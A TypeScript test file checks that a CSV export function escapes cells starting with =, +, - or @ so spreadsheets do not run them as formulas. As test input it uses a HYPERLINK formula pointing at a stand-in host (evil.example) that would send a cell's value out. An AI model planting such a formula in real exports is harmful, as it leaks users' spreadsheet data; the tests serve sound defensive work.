import { expect, test } from 'vitest';
import { csvOf } from '../../src/report/write-csv.ts';

const cellOf = (text: string) => csvOf([[text]]).slice(1, -2);

/** The cells that a reader finds which splits at a sign and at line feeds, whatever the quotes say in the middle of a cell. */
function cellsOf(csv: string, sign: string): readonly string[] {
  return csv
    .replace('\ufeff', '')
    .split(/[\r\n]+/)
    .flatMap((line) => line.split(sign))
    .map((cell) => cell.trim().replace(/^"+/, '').trim());
}

const formula = '=HYPERLINK("http://evil.example/?"&A1)';

test.each([
  ['begins one', formula],
  ['has a blank before it', ` ${formula}`],
  ['has a line feed before it', `\n${formula}`],
  ['has a carriage return before it', `\r${formula}`],
  ['has a tab before it', `\t${formula}`],
  ['follows a semicolon', `Chair;${formula}`],
  ['follows a semicolon and a quotation mark', `Chair; "${formula}"`],
  ['follows a line feed', `Chair\n${formula}`],
  ['follows a tab', `Chair\t${formula}`],
])('no cell is a formula where the value %s, for readers that split at , ; or a tab', (_, value) => {
  for (const sign of [',', ';', '\t'])
    for (const cell of cellsOf(csvOf([['INV-1', value, 'x']]), sign))
      if (sign !== ',' || !value.includes(',')) expect(cell).not.toMatch(/^[=+\-@]/);
});

test.each(['=', '+', '-', '@', '＝', '＋', '－', '＠'])('%s does not begin a cell', (sign) => {
  expect(cellOf(`${sign}1`)).toBe(`'${sign}1`);
  expect(cellOf(`a;${sign}1`)).toBe(`"a;'${sign}1"`);
});

test('other texts stay as they are', () => {
  for (const text of ['Chair', 'INV-2026-0042', 'a = b', 'a+b@c', '5 - 3', "'x"])
    expect(cellOf(text)).toBe(text);
});

test('a number is a number, also below zero', () => {
  expect(csvOf([['INV-1', -1691.5, 0]])).toBe('\ufeffINV-1,-1691.5,0\r\n');
});
